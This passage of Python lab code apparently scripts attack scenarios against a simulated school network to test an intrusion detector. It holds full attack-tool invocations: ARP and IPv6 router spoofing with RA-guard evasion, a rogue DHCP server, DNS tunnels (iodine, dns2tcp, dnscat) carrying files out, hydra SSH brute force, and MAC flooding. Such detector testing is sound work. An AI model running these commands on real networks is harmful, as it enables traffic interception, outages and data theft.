    _bounded(lan, a.ns, 5, "macof", *args)
    return Outcome(
        "mac_flood",
        ("mac_flood",),
        "timeout 5 macof " + " ".join(args),
        "macof: frames with random source MACs (and random IPs)",
        a,
        "macof (dsniff)",
        notes={"no_single_source": True},
    )


# --------------------------------------------------------------------- layer 2
def arp_spoof(lan: SchoolLan, small: bool = False) -> Outcome:
    a, victim = lan.attacker, lan.students[0]
    seconds = 12
    traffic = lan.start(
        victim.ns, "victim-ping", "busybox", "ping", "-c", str(seconds + 6), "-i", "1", lan.gw.ip
    )
    lan.run(a.ns, "sysctl", "-qw", "net.ipv4.ip_forward=1")
    try:
        args = ["-i", IF, "-t", victim.ip, "-r", lan.gw.ip]
        _bounded(lan, a.ns, seconds, "arpspoof", *args)
    finally:
        lan.run(a.ns, "sysctl", "-qw", "net.ipv4.ip_forward=0")
        lan.stop(traffic, signal.SIGINT)
    return Outcome(
        "arp_spoof",
        ("arp_spoof",),
        f"timeout -s INT {seconds} arpspoof " + " ".join(args) + " (ip_forward=1)",
        "arpspoof MITM between student 1 and the gateway: forged ARP replies both "
        "ways every 2 s, then the re-ARP on exit",
        a,
        "arpspoof (dsniff)",
    )


def gratuitous_arp(lan: SchoolLan, small: bool = False) -> Outcome:
    a = lan.attacker
    args = ["-U", "-P", "-S", lan.gw.ip, "-c", "3", "-i", IF, lan.gw.ip]
    _bounded(lan, a.ns, 10, "arping", *args)
    return Outcome(
        "gratuitous_arp",
        ("arp_spoof",),
        "arping " + " ".join(args),
        "unsolicited (gratuitous) ARP replies claiming the gateway's address "
        "with the attacker's MAC",
        a,
        "arping",
    )


def rogue_dhcp(lan: SchoolLan, small: bool = False) -> Outcome:
    a = lan.attacker
    args = [
        "-k",
        "--port=0",
        f"--interface={IF}",
        "--bind-interfaces",
        "--no-hosts",
        "--no-resolv",
        "--dhcp-range=10.77.0.200,10.77.0.220,255.255.255.0,5m",
        f"--dhcp-option=3,{a.ip}",
        f"--dhcp-option=6,{a.ip}",
        "--dhcp-authoritative",
        "--no-ping",
        "--user=root",
        f"--dhcp-leasefile={lan.work / 'rogue.leases'}",
        f"--pid-file={lan.work / 'rogue.pid'}",
    ]
    lan.attack_started = time.monotonic()
    rogue = lan.start(a.ns, "rogue-dnsmasq", "dnsmasq", *args)
    leases: list[str] = []
    try:
        time.sleep(1)
        leases += [lan.dhcp(s).strip() for s in lan.students[1:]]
    finally:
        lan.stop(rogue)
    for s in lan.students[1:]:  # back to the school's server (benign)
        lan.dhcp(s)
    return Outcome(
        "rogue_dhcp",
        ("rogue_dhcp",),
        "dnsmasq " + " ".join(x for x in args if "file" not in x),
        "a second DHCP server on the attacker (router and DNS = attacker); "
        "students 2 and 3 rejoin with busybox udhcpc, then renew from the school "
        "server",
        a,
        "dnsmasq",
        notes={"udhcpc": leases},
    )


# --------------------------------------------------------------------- IPv6 first hop
def _link_local(lan: SchoolLan, host: Host) -> str:
    out = lan.sh("ip", "-n", host.ns, "-6", "-o", "addr", "show", "dev", IF, "scope", "link")
    return out.split()[3].split("/")[0] if out.strip() else ""


def rogue_ra(lan: SchoolLan, small: bool = False) -> Outcome:
    """fake_router6 on the attacker; student 1 (IPv6 on, taking router advertisements)
    solicits routers, takes the rogue prefix and pings the attacker over it."""
    a, victim = lan.attacker, lan.students[0]
    lan.ipv6(a, ATTACKER6)
    lan.ipv6(victim, STUDENT6)
    prefix = "fd77:bad::/64"
    args = [IF, prefix]
    try:
        time.sleep(2)  # DAD of the link-local addresses
        lan.attack_started = time.monotonic()
        tool = lan.start(
            a.ns, "fake_router6", "timeout", "-s", "INT", "12", "atk6-fake_router6", *args
        )
        time.sleep(1)
        lan.run(victim.ns, "sysctl", "-qw", f"net.ipv6.conf.{IF}.accept_ra=2")
        lan.run(victim.ns, "ip", "link", "set", IF, "down")  # up again: router solicitations
        lan.run(victim.ns, "ip", "link", "set", IF, "up")
        time.sleep(6)
        route = lan.run(victim.ns, "ip", "-6", "route", "show", "default").stdout.strip()
        tool.wait(timeout=20)
        link_local = _link_local(lan, a)
    finally:
        lan.ipv6(victim, None)
        lan.ipv6(a, None)
    return Outcome(
        "rogue_ra",
        ("rogue_ra",),
        "timeout -s INT 12 atk6-fake_router6 " + " ".join(args),
        f"thc-ipv6 fake_router6: the attacker announces itself as IPv6 router for {prefix} "
        "(router advertisements every few seconds, answers to solicitations); student 1 "
        "with IPv6 on takes its default route from it",
        a,
        "thc-ipv6",
        notes={"attacker_ip6": link_local, "victim_default_route": route},
    )


def kill_router(lan: SchoolLan, small: bool = False) -> Outcome:
    """The gateway advertises itself as the LAN's IPv6 router (dnsmasq's router
    advertisements); thc-ipv6 kill_router6 on the attacker sends advertisements with
    router lifetime 0 from the gateway's address: every IPv6 host drops its router."""
    gw, a, victim = lan.gw, lan.attacker, lan.students[0]
    lan.ipv6(gw, GATEWAY6)
    lan.ipv6(a, ATTACKER6)
    lan.ipv6(victim, STUDENT6)
    ra = None
    try:
        time.sleep(2)  # DAD of the link-local addresses
        ra = lan.start(
            gw.ns, "dnsmasq-ra", "dnsmasq", "--no-daemon", "--conf-file=/dev/null",
            "--port=0", "--enable-ra", f"--interface={IF}", "--bind-interfaces",
            "--dhcp-range=fd77::,ra-only,64", f"--pid-file={lan.work / 'dnsmasq-ra.pid'}",
        )  # fmt: skip
        time.sleep(4)  # the router's first advertisements
        router = _link_local(lan, gw)
        out = _bounded(lan, a.ns, 8, "atk6-kill_router6", IF, router)
        link_local = _link_local(lan, a)
    finally:
        if ra is not None:
            lan.stop(ra)
        for host in (victim, a, gw):
            lan.ipv6(host, None)
    return Outcome(
        "kill_router",
        ("rogue_ra",),
        f"atk6-kill_router6 {IF} {router}",
        "thc-ipv6 kill_router6: router advertisements with router lifetime 0 from the "
        "gateway's link-local address (the gateway advertises itself with dnsmasq)",
        a,
        "thc-ipv6",
        notes={"attacker_ip6": link_local, "output_tail": out[-300:]},
    )


def _fake_router26(lan: SchoolLan, args: list[str], accept_ra: bool = False) -> tuple[str, str]:
    """fake_router26 on the attacker with ``args``, the attacker and student 1 on IPv6;
    ``accept_ra``: student 1 takes router advertisements (accept_ra=2) first. Returns
    the tool's output and the attacker's link-local address (the advertisements' source)."""
    a, victim = lan.attacker, lan.students[0]
    lan.ipv6(a, ATTACKER6)
    lan.ipv6(victim, STUDENT6)
    try:
        time.sleep(2)  # DAD of the link-local addresses
        if accept_ra:
            lan.run(victim.ns, "sysctl", "-qw", f"net.ipv6.conf.{IF}.accept_ra=2")
        lan.attack_started = time.monotonic()
        out = _bounded(lan, a.ns, 20, "atk6-fake_router26", *args)
        return out, _link_local(lan, a)
    finally:
        lan.ipv6(victim, None)
        lan.ipv6(a, None)


def _rogue_ra_evading(name: str, evasion: str, what: str):  # type: ignore[no-untyped-def]
    """fake_router26 with one of its RA-guard evasions: the advertisement behind
    extension headers or split into fragments, as a switch's RA guard is stepped around."""

    def run(lan: SchoolLan, small: bool = False) -> Outcome:
        prefix = "fd77:bad::/64"
        args = ["-E", evasion, "-A", prefix, "-i", "2", "-n", "5", IF]
        out, link_local = _fake_router26(lan, args)
        return Outcome(
            name,
            ("rogue_ra",),
            "atk6-fake_router26 " + " ".join(args),
            f"thc-ipv6 fake_router26 -E {evasion}: five router advertisements for {prefix}, {what}",
            lan.attacker,
            "thc-ipv6",
            notes={"attacker_ip6": link_local, "output_tail": out[-300:]},
        )

    return run


rogue_ra_hop_by_hop = _rogue_ra_evading("rogue_ra_hop_by_hop", "H", "behind a hop-by-hop header")
rogue_ra_atomic_fragment = _rogue_ra_evading(
    "rogue_ra_atomic_fragment", "1", "in a one-fragment (atomic) fragment header"
)
rogue_ra_fragmented = _rogue_ra_evading(
    "rogue_ra_fragmented", "D", "behind a destination header so large that it fragments"
)
rogue_ra_full_evasion = _rogue_ra_evading(
    "rogue_ra_full_evasion", "F", "with the full evasion (fragments and extension headers)"
)


def _nd_traffic(lan: SchoolLan, name: str, seconds: int, *cmd: str) -> None:
    """Run an ND spoofing tool on the attacker while student 1 and the server ping each
    other over IPv6, their neighbour caches flushed every 3 s (so that they ask again,
    as after an idle spell)."""
    a, victim, srv = lan.attacker, lan.students[0], lan.srv
    lan.ipv6(a, ATTACKER6)
    lan.ipv6(victim, STUDENT6)
    lan.ipv6(srv, SERVER6)
    procs = []
    try:
        time.sleep(2)
        lan.attack_started = time.monotonic()
        procs.append(lan.start(a.ns, name, "timeout", "-s", "INT", str(seconds), *cmd))
        time.sleep(1)
        for host, peer in ((victim, SERVER6), (srv, STUDENT6)):
            count = str(seconds)
            procs.append(lan.start(host.ns, f"ping6-{host.name}", "ping", "-6", "-c", count, peer))
        for _ in range(4):
            time.sleep(3)
            for host in (victim, srv):
                lan.run(host.ns, "ip", "-6", "neigh", "flush", "dev", IF)
        procs[0].wait(timeout=seconds + 10)
    finally:
        for proc in procs:
            lan.stop(proc, signal.SIGINT)
        lan.ipv6(srv, None)
        lan.ipv6(victim, None)
        lan.ipv6(a, None)


def nd_spoof(lan: SchoolLan, small: bool = False) -> Outcome:
    """parasite6 answers every neighbour solicitation with the attacker's MAC."""
    seconds, args = 15, ["-l", IF]
    _nd_traffic(lan, "parasite6", seconds, "atk6-parasite6", *args)
    return Outcome(
        "nd_spoof",
        ("nd_spoof",),
        f"timeout -s INT {seconds} atk6-parasite6 " + " ".join(args),
        "thc-ipv6 parasite6: neighbour advertisements with the attacker's MAC (override "
        "flag) answering every solicitation, resent every 5 s, while student 1 "
        f"({STUDENT6}) and the server ({SERVER6}) ping each other, their neighbour "
        "caches flushed every 3 s",
        lan.attacker,
        "thc-ipv6",
        notes={"attacker_ip6": ATTACKER6},
    )


def nd_advertise(lan: SchoolLan, small: bool = False) -> Outcome:
    """fake_advertise6 claims the server's address for the attacker, unsolicited."""
    seconds, args = 15, ["-w", "1", "-n", "14", IF, SERVER6]
    _nd_traffic(lan, "fake_advertise6", seconds, "atk6-fake_advertise6", *args)
    return Outcome(
        "nd_advertise",
        ("nd_spoof",),
        f"timeout -s INT {seconds} atk6-fake_advertise6 " + " ".join(args),
        "thc-ipv6 fake_advertise6: an unsolicited neighbour advertisement a second to all "
        f"nodes (override flag) claiming the server's {SERVER6} for the attacker's MAC, "
        f"while student 1 ({STUDENT6}) and the server ping each other, their neighbour "
        "caches flushed every 3 s",
        lan.attacker,
        "thc-ipv6",
        notes={"attacker_ip6": ATTACKER6},
    )


# --------------------------------------------------------------------- DNS tunnel
def dns_tunnel(lan: SchoolLan, small: bool = False) -> Outcome:
    """iodine through the school resolver, which forwards tunnel.test to the internet host."""
    a, wan = lan.attacker, lan.wan
    server = lan.start(
        wan.ns,
        "iodined",
        "iodined",
        "-f",
        "-c",
        "-P",
        "labsecret",
        "-l",
        wan.ip,
        "-p",
        "53",
        "172.31.77.1/27",
        TUNNEL_DOMAIN,
    )
    args = ["-f", "-r", "-P", "labsecret", lan.srv.ip, TUNNEL_DOMAIN]
    client = None
    up = False
    try:
        time.sleep(1)
        lan.attack_started = time.monotonic()
        client = lan.start(a.ns, "iodine", "timeout", "-s", "INT", "30", "iodine", *args)
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline and client.poll() is None:
            if "172.31.77." in lan.sh("ip", "-n", a.ns, "-4", "-o", "addr", check=False):
                up = True
                break
            time.sleep(0.3)
        if up:  # push a little data through the tunnel
            lan.run(a.ns, "busybox", "ping", "-c", "5", "-i", "0.3", "172.31.77.1", timeout=15)
            lan.run(
                a.ns,
                "curl",
                "-s",
                "-m",
                "8",
                "-o",
                "/dev/null",
                "http://172.31.77.1/chunk.bin",
                timeout=15,
            )
    finally:
        if client is not None:
            lan.stop(client, signal.SIGINT)
        lan.stop(server)
    return Outcome(
        "dns_tunnel",
        ("dns_tunnel",),
        "iodine " + " ".join(args),
        "iodine DNS tunnel through the school resolver (dnsmasq forwards "
        f"{TUNNEL_DOMAIN} to iodined on the internet host); ping and a 64 KiB "
        "download through the tunnel",
        a,
        "iodine",
        notes={"tunnel_up": up, "iodine_log_tail": lan.log("iodine")[-400:]},
    )


DNSCAT = Path(__file__).with_name("dnscat.py")


def dnscat2_direct(lan: SchoolLan, small: bool = False) -> Outcome:
    """dnscat2's transport sent straight to the attacker's server: no domain, TXT/CNAME/MX."""
    a, wan = lan.attacker, lan.wan
    py = which("python3") or sys.executable
    secret = lan.work / "marks.csv"
    secret.write_bytes(os.urandom(6144))
    seconds = 40
    server = lan.start(
        wan.ns, "dnscat-server", py, str(DNSCAT), "server", "--listen", wan.ip, "--seconds", "60"
    )
    try:
        time.sleep(0.5)
        args = ["client", "--server", wan.ip, "--file", "marks.csv", "--seconds", str(seconds)]
        lan.attack_started = time.monotonic()
        out = lan.run(a.ns, py, str(DNSCAT), *args, timeout=seconds + 15)
    finally:
        lan.stop(server, signal.SIGINT)
    return Outcome(
        "dnscat2_direct",
        ("dns_tunnel", "dns_bypass"),
        "dnscat.py " + " ".join(args),
        "dnscat2's DNS transport in direct mode (tests/lab/dnscat.py: dnscat2 0.07's "
        "encoding with --no-encryption): a 6 KiB file as hex labels behind dnscat., TXT, "
        f"CNAME or MX at random, straight to {wan.ip} (the attacker's server answering as "
        "dnscat2's does), then an empty poll a second; no domain, so every query is a "
        "domain of its own",
        a,
        "dnscat2",
        fast=False,
        notes={
            "output_tail": (out.stdout + out.stderr)[-300:],
            "server_log": lan.log("dnscat-server")[-200:],
        },
    )


@contextlib.contextmanager
def _iodine_tunnel(
    lan: SchoolLan, tag: str, tunnel_ip: str, args: list[str], seconds: int
) -> Iterator[bool]:
    """iodined on the internet host (tunnel address ``tunnel_ip``/27), then iodine with
    ``args`` on the attacker for at most ``seconds`` (logs ``iodined-TAG``, ``iodine-TAG``);
    yields whether the tunnel came up within 30 s, and stops both after."""
    a, wan = lan.attacker, lan.wan
    server = lan.start(
        wan.ns, f"iodined-{tag}", "iodined", "-f", "-c", "-P", "labsecret", "-l", wan.ip,
        "-p", "53", f"{tunnel_ip}/27", TUNNEL_DOMAIN,
    )  # fmt: skip
    client = None
    up = False
    try:
        time.sleep(1)
        lan.attack_started = time.monotonic()
        timeout = ("timeout", "-s", "INT", str(seconds))
        client = lan.start(a.ns, f"iodine-{tag}", *timeout, "iodine", *args)
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline and client.poll() is None:
            if "Connection setup complete" in lan.log(f"iodine-{tag}"):
                up = True
                break
            time.sleep(0.3)
        yield up
    finally:
        if client is not None:
            lan.stop(client, signal.SIGINT)
        lan.stop(server)


def _iodine_direct(name: str, qtype: str):  # type: ignore[no-untyped-def]
    """iodine with -T QTYPE, straight to iodined on the internet host (no resolver)."""

    def run(lan: SchoolLan, small: bool = False) -> Outcome:
        a, wan = lan.attacker, lan.wan
        args = ["-f", "-r", "-T", qtype, "-P", "labsecret", wan.ip, TUNNEL_DOMAIN]
        with _iodine_tunnel(lan, "direct", "172.31.78.1", args, 45) as up:
            if up:  # push a little data through the tunnel
                lan.run(a.ns, "busybox", "ping", "-c", "5", "-i", "0.3", "172.31.78.1", timeout=15)
                lan.run(
                    a.ns,
                    "curl",
                    "-s",
                    "-m",
                    "8",
                    "-o",
                    "/dev/null",
                    "http://172.31.78.1/chunk.bin",
                    timeout=15,
                )
        return Outcome(
            name,
            ("dns_tunnel", "dns_bypass"),
            "iodine " + " ".join(args),
            f"iodine with {qtype} queries sent straight to iodined on the internet host "
            f"({wan.ip}), not through the school resolver; ping and a 64 KiB download through "
            "the tunnel",
            a,
            "iodine",
            notes={"tunnel_up": up, "iodine_log_tail": lan.log("iodine-direct")[-300:]},
        )

    return run


iodine_txt_direct = _iodine_direct("iodine_txt_direct", "TXT")
iodine_null_direct = _iodine_direct("iodine_null_direct", "NULL")


def _dns_names(student: int, rng: random.Random) -> list[str]:
    """One student's lookups: sites, hashed CDN and ad-frame hosts, telemetry, updates."""
    sites = [f"www.site{student}{i}.{('com', 'be', 'nl', 'org')[i % 4]}" for i in range(25)]
    hashed = [f"{rng.randbytes(16).hex()}.safeframe.googlesyndication.com" for _ in range(20)]
    hashed += [f"{uuid.UUID(int=rng.getrandbits(128))}.fp.measure.office.com" for _ in range(20)]
    other = [f"e{rng.randrange(10000)}.dscx.akamaiedge.net", "au.download.windowsupdate.com"]
    other += ["settings-win.data.microsoft.com", "v10.events.data.microsoft.com"]
    names = sites + hashed + other
    rng.shuffle(names)
    return names


def dns_busy_benign(lan: SchoolLan, small: bool = False) -> Outcome:
    """Three students' busy browsing through the school resolver, which relays it all."""
    wan, srv = lan.wan, lan.srv
    conf = lan.work / "dnsmasq-inet.conf"
    conf.write_text(
        f"interface={IF}\nbind-interfaces\nlisten-address={wan.ip}\nno-resolv\nno-hosts\n"
        f"address=/#/{wan.ip}\n"
    )
    resolver = lan.start(
        wan.ns, "dnsmasq-inet", "dnsmasq", "-k", f"--conf-file={conf}", "--user=root",
        f"--pid-file={lan.work / 'dnsmasq-inet.pid'}",
    )  # fmt: skip
    rng = random.Random(20261207)
    asked = 0
    try:
        time.sleep(0.5)
        for i, s in enumerate(lan.students, 1):
            names = _dns_names(i, rng)
            script = "; ".join(f"busybox nslookup -type=a {n} {srv.ip}" for n in names)
            lan.run(s.ns, "sh", "-c", script + " >/dev/null 2>&1; true", timeout=120)
            asked += len(names)
    finally:
        lan.stop(resolver)
    return Outcome(
        "dns_busy_benign",
        (),
        "busybox nslookup -type=a NAME " + srv.ip,
        f"each student looks up {asked // 3} names through the school resolver: 25 sites, "
        "20 hashed ad-frame hosts (32 hex characters), 20 telemetry names with a GUID, CDN "
        f"and update hosts; the resolver relays all {asked} to a resolver on the internet "
        "host (more random-looking names than one client's threshold, from one address)",
        None,
        "busybox",
    )


# --------------------------------------------------------------------- brute force
def brute_force(lan: SchoolLan, small: bool = False) -> Outcome:
    a = lan.attacker
    wordlist = lan.work / "passwords.txt"
    wordlist.write_text("\n".join(PASSWORDS) + "\n")
    args = ["-I", "-t", "4", "-l", "admin", "-P", str(wordlist), f"ssh://{lan.srv.ip}"]
    # The whole list for a recording; live, the first bursts (detected within the first
    # one), not sshd's delays over all 40 guesses.
    out = _bounded(lan, a.ns, 90 if small else 20, "hydra", *args)
    return Outcome(
        "brute_force",
        ("brute_force",),
        "hydra " + " ".join(args).replace(str(wordlist), "passwords.txt"),
        f"hydra SSH password guessing, {len(PASSWORDS)} passwords, 4 tasks",
        a,
        "hydra",
        notes={"output_tail": out[-300:]},
    )


# --------------------------------------------------------------------- other tools
def _tool(
    lan: SchoolLan,
    name: str,
    expected: tuple[str, ...],
    tool: str,
    cmd: list[str],
    seconds: float,
    description: str,
    shown: str = "",
    notes: dict[str, object] | None = None,
) -> Outcome:
    """The attacker runs ``cmd`` under a ``seconds`` bound: its outcome, the command as
    shown (``shown``, or the command itself) and the tail of its output."""
    out = _bounded(lan, lan.attacker.ns, seconds, *cmd)
    return Outcome(
        name,
        expected,
        shown or " ".join(cmd),
        description,
        lan.attacker,
        tool,
        notes={"output_tail": out[-300:], **(notes or {})},
    )


def masscan_scan(lan: SchoolLan, small: bool = False) -> Outcome:
    """masscan's own TCP stack (libpcap, not the kernel): SYNs straight to the server's MAC,
    one probe per port at a fixed rate; the attacker's kernel resets the SYN-ACKs."""
    a, srv = lan.attacker, lan.srv
    args = ["--adapter", IF, "--adapter-ip", a.ip, "--adapter-mac", a.mac]
    args += ["--router-mac", srv.mac, "-p", "1-1000", "--rate", "2000", "--wait", "2", srv.ip]
    return _tool(
        lan,
        "masscan_scan",
        ("port_scan",),
        "masscan",
        ["masscan", *args],
        30,
        "masscan SYN scan of 1000 ports on the school server at 2,000 probes a second, "
        "frames sent to the server's MAC by masscan's own stack",
    )


def masscan_sweep(lan: SchoolLan, small: bool = False) -> Outcome:
    """masscan over the whole LAN for a few service ports, as it runs by default: every
    frame to the router's MAC (masscan never ARPs for targets), the gateway routes them."""
    a = lan.attacker
    args = ["--adapter", IF, "--adapter-ip", a.ip, "--adapter-mac", a.mac]
    args += ["--router-mac", lan.gw.mac, "-p", "22,445,3389", "--rate", "1000"]
    args += ["--wait", "2", LAN]
    return _tool(
        lan,
        "masscan_sweep",
        ("port_scan", "host_sweep"),
        "masscan",
        ["masscan", *args],
        30,
        "masscan SYN sweep of three service ports on every address of the /24 at 1,000 "
        "probes a second, every frame to the gateway's MAC (the gateway routes them and "
        "asks ARP for every address: it is not the sweeper); a horizontal scan and a TCP "
        "host sweep, one incident",
        notes={"one_incident": True},
    )


def masscan_udp_scan(lan: SchoolLan, small: bool = False) -> Outcome:
    """masscan's UDP probes: a protocol payload for the ports it knows (DNS, SNMP, NTP,
    ...), an empty datagram elsewhere; closed ports answer ICMP port unreachable."""
    a, srv = lan.attacker, lan.srv
    args = ["--adapter", IF, "--adapter-ip", a.ip, "--adapter-mac", a.mac]
    args += ["--router-mac", srv.mac, "-pU:1-1000", "--rate", "1000", "--wait", "2", srv.ip]
    return _tool(
        lan,
        "masscan_udp_scan",
        ("port_scan",),
        "masscan",
        ["masscan", *args],
        30,
        "masscan UDP scan of 1000 ports on the school server at 1,000 probes a second "
        "(payloads for the ports it knows)",
    )


def arp_scan(lan: SchoolLan, small: bool = False) -> Outcome:
    args = ["-I", IF, "--retry", "1", LAN]
    return _tool(
        lan,
        "arp_scan",
        ("host_sweep",),
        "arp-scan",
        ["arp-scan", *args],
        20,
        "arp-scan: one ARP request for each address of the /24 (its own frames, libpcap)",
    )


def arp_probe_scan(lan: SchoolLan, small: bool = False) -> Outcome:
    """arp-scan asking as 0.0.0.0 (RFC 5227 probes, which no host caches): the laptop has
    fetched the intranet page before, as a laptop does."""
    a = lan.attacker
    lan.run(a.ns, "curl", "-4", "-s", "-m", "5", "-o", "/dev/null", f"http://{lan.srv.ip}/")
    args = ["-I", IF, "--arpspa", "0.0.0.0", "--retry", "1", LAN]
    return _tool(
        lan,
        "arp_probe_scan",
        ("host_sweep",),
        "arp-scan",
        ["arp-scan", *args],
        20,
        "the laptop fetches the intranet page, then arp-scan sends an ARP probe (sender "
        "0.0.0.0) for each address of the /24",
    )


def netdiscover_sweep(lan: SchoolLan, small: bool = False) -> Outcome:
    """netdiscover asks ARP as x.x.x.67 of the range (its -n default), not as the laptop."""
    a = lan.attacker
    lan.run(a.ns, "curl", "-4", "-s", "-m", "5", "-o", "/dev/null", f"http://{lan.srv.ip}/")
    args = ["-i", IF, "-r", LAN, "-P", "-N"]
    return _tool(
        lan,
        "netdiscover_sweep",
        ("host_sweep",),
        "netdiscover",
        ["netdiscover", *args],
        30,
        "the laptop fetches the intranet page, then a netdiscover active scan of the /24: "
        "ARP requests for every address asking as 10.77.0.67 (a forged sender), then it "
        "prints the hosts that answered",
        shown="timeout -s INT 30 netdiscover " + " ".join(args),
    )


def nping_timestamp_sweep(lan: SchoolLan, small: bool = False) -> Outcome:
    """ICMP timestamp requests (type 13), not echo, to every address of another network
    (the internet host's /24, as a sweep of another VLAN would go): through the
    gateway, so the sweeper sends no ARP; only the probes show it."""
    net = lan.wan.ip.rsplit(".", 1)[0] + ".0/24"
    args = ["--icmp", "--icmp-type", "time", "--send-ip", "-c", "1", "--rate", "100", "-N", net]
    return _tool(
        lan,
        "nping_timestamp_sweep",
        ("host_sweep",),
        "nping (nmap)",
        ["nping", *args],
        30,
        f"nping ICMP timestamp requests, one to each address of {net} (routed by the "
        "gateway), 100 a second",
    )


def _dns2tcp(name: str, qtype: str, direct: bool):  # type: ignore[no-untyped-def]
    """dns2tcp: a TCP connection to the internet host's web server carried in QTYPE
    queries, through the school resolver (which forwards tunnel.test to the internet
    host) or straight to the attacker's server."""

    def run(lan: SchoolLan, small: bool = False) -> Outcome:
        return _dns2tcp_run(lan, name, qtype, direct)

    return run


def _dns2tcp_run(lan: SchoolLan, name: str, qtype: str, direct: bool) -> Outcome:
    a, wan = lan.attacker, lan.wan
    conf = lan.work / "dns2tcpd.conf"
    conf.write_text(
        f"listen = {wan.ip}\nport = 53\nuser = nobody\nchroot = /tmp\n"
        f"domain = {TUNNEL_DOMAIN}\nresources = web:{wan.ip}:80\n"
    )
    (lan.work / "www-inet" / "notes.bin").write_bytes(os.urandom(12288))
    server = lan.start(wan.ns, "dns2tcpd", "dns2tcpd", "-F", "-d", "1", "-f", str(conf))
    args = ["-z", TUNNEL_DOMAIN, "-r", "web", "-l", "8099", "-T", qtype]
    args.append(wan.ip if direct else lan.srv.ip)
    client = None
    fetched = False
    try:
        time.sleep(1)
        lan.attack_started = time.monotonic()
        client = lan.start(a.ns, "dns2tcpc", "timeout", "-s", "INT", "40", "dns2tcpc", *args)
        time.sleep(1.5)
        r = lan.run(
            a.ns,
            "curl",
            "-s",
            "-m",
            "25",
            "-o",
            "/dev/null",
            "-w",
            "%{size_download}",
            "http://127.0.0.1:8099/notes.bin",
            timeout=35,
        )
        fetched = r.stdout.strip() == "12288"
    finally:
        if client is not None:
            lan.stop(client, signal.SIGINT)
        lan.stop(server)
    path = (
        f"straight to dns2tcpd on the internet host ({wan.ip})"
        if direct
        else f"through the school resolver (dnsmasq forwards {TUNNEL_DOMAIN} to dns2tcpd on "
        "the internet host)"
    )
    return Outcome(
        name,
        ("dns_tunnel", "dns_bypass") if direct else ("dns_tunnel",),
        "dns2tcpc " + " ".join(args),
        f"dns2tcp {path}; a 12 KiB download from the internet host's web server through "
        f"the tunnel ({qtype} queries)",
        a,
        "dns2tcp",
        notes={"fetched": fetched, "client_log_tail": lan.log("dns2tcpc")[-300:]},
    )


dns2tcp_tunnel = _dns2tcp("dns2tcp_tunnel", "TXT", direct=False)
dns2tcp_key = _dns2tcp("dns2tcp_key", "KEY", direct=False)
dns2tcp_key_direct = _dns2tcp("dns2tcp_key_direct", "KEY", direct=True)


def _logins(name: str) -> Callable[[SchoolLan, bool], Outcome]:
    """A scenario of tests/lab/logins.py (which builds on this module)."""

    def run(lan: SchoolLan, small: bool = False) -> Outcome:
        from tests.lab import logins

        return getattr(logins, name)(lan, small)  # type: ignore[no-any-return]

    return run


SCENARIOS = {
    s.name: s
    for s in [
        Scenario("baseline", ("busybox", "curl", "ssh"), baseline),
        Scenario("p2p_client", ("python3",), p2p_client),
        Scenario("lan_chatter", ("python3",), lan_chatter),
        Scenario("file_server", ("curl", "scp"), file_server),
        Scenario("updates_cdn", ("python3", "busybox", "dnsmasq"), updates_cdn),
        Scenario("resolver_relay", ("busybox", "dnsmasq"), resolver_relay),
        Scenario("second_dhcp_server", ("dnsmasq", "busybox"), second_dhcp_server),
        Scenario("multicast_source_frame", ("python3", "curl"), multicast_source_frame),
        Scenario("syn_scan", ("nmap",), syn_scan),
        Scenario("ping_sweep", ("nmap",), ping_sweep),
        Scenario("syn_flood", ("hping3",), syn_flood),
        Scenario("arp_spoof", ("arpspoof",), arp_spoof),
        Scenario("rogue_dhcp", ("dnsmasq", "busybox"), rogue_dhcp),
        Scenario("dns_tunnel", ("iodine", "iodined"), dns_tunnel),
        Scenario("brute_force", ("hydra",), brute_force),
        Scenario("mac_flood", ("macof",), mac_flood),
        Scenario("connect_scan", ("nmap",), connect_scan),
        Scenario("slow_scan", ("nmap",), slow_scan),
        Scenario("icmp_sweep", ("nmap",), icmp_sweep),
        Scenario("gratuitous_arp", ("arping",), gratuitous_arp),
        Scenario("fin_scan", ("nmap",), fin_scan),
        Scenario("null_scan", ("nmap",), null_scan),
        Scenario("xmas_scan", ("nmap",), xmas_scan),
        Scenario("ack_scan", ("nmap",), ack_scan),
        Scenario("window_scan", ("nmap",), window_scan),
        Scenario("maimon_scan", ("nmap",), maimon_scan),
        Scenario("filtered_ack_scan", ("nmap", "nft"), filtered_ack_scan),
        Scenario("filtered_window_scan", ("nmap", "nft"), filtered_window_scan),
        Scenario("filtered_maimon_scan", ("nmap", "nft"), filtered_maimon_scan),
        Scenario("udp_scan", ("nmap",), udp_scan),
        Scenario("udp_data_scan", ("nmap",), udp_data_scan),
        Scenario("udp_data_scan_slow", ("nmap", "nft"), udp_data_scan_slow),
        Scenario("fast_syn_scan", ("nmap",), fast_syn_scan),
        Scenario("fast_ack_scan", ("nmap",), fast_ack_scan),
        Scenario("fast_udp_scan", ("nmap",), fast_udp_scan),
        Scenario("ipproto_scan", ("nmap",), ipproto_scan),
        Scenario("ipv6_scan", ("nmap",), ipv6_scan),
        Scenario("polite_scan", ("nmap",), polite_scan),
        Scenario("decoy_scan", ("nmap",), decoy_scan),
        Scenario("syn_burst", ("hping3",), syn_burst),
        Scenario("spoofed_syn_flood", ("hping3",), spoofed_syn_flood),
        Scenario("rst_flood", ("hping3",), rst_flood),
        Scenario("ack_flood", ("hping3",), ack_flood),
        Scenario("udp_flood", ("hping3",), udp_flood),
        Scenario("icmp_flood", ("hping3",), icmp_flood),
        Scenario("udp_data_flood", ("hping3",), udp_data_flood),
        Scenario("dhcp_starvation", ("dhcpstarv",), dhcp_starvation),
        Scenario("dnscat2_direct", ("python3",), dnscat2_direct),
        Scenario("dns_busy_benign", ("busybox", "dnsmasq"), dns_busy_benign),
        Scenario("iodine_txt_direct", ("iodine", "iodined", "curl"), iodine_txt_direct),
        Scenario("iodine_null_direct", ("iodine", "iodined", "curl"), iodine_null_direct),
        Scenario("rogue_ra", ("atk6-fake_router6", "ping"), rogue_ra),
        Scenario("nd_spoof", ("atk6-parasite6", "ping"), nd_spoof),
        Scenario("sweep_and_scan", ("nmap",), sweep_and_scan),
        Scenario("nd_advertise", ("atk6-fake_advertise6", "ping"), nd_advertise),
        Scenario("kill_router", ("atk6-kill_router6", "dnsmasq"), kill_router),
        Scenario("rogue_ra_hop_by_hop", ("atk6-fake_router26",), rogue_ra_hop_by_hop),
        Scenario("rogue_ra_atomic_fragment", ("atk6-fake_router26",), rogue_ra_atomic_fragment),
        Scenario("rogue_ra_fragmented", ("atk6-fake_router26",), rogue_ra_fragmented),
